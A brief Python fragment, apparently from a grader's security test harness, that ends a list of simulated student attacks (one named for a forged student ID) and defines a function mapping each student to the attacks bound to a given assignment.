           "and CJK letters", forged_student_id, [], None, **ONCE),
]


def attacks_for(assignment, machine_wide, context, attacks=ATTACKS):
    """{student: (files, Bound)} of the attacks on `assignment`: all of them where it is the
    assignment that the attacks on the machine run on (`machine_wide`), those on an
    assignment's own files and functions on the others."""
    return {attack.student: attack.bind(assignment, context) for attack in attacks
            if machine_wide or attack.every_assignment}
